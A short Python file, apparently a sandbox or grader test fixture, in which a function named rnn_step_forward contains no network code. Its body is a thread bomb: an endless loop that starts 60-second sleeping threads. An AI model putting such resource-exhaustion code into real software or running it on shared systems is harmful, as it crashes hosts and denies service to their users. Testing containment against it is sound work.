"""Starts threads for ever."""

import threading
import time


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    while True:
        threading.Thread(target=time.sleep, args=(60,)).start()
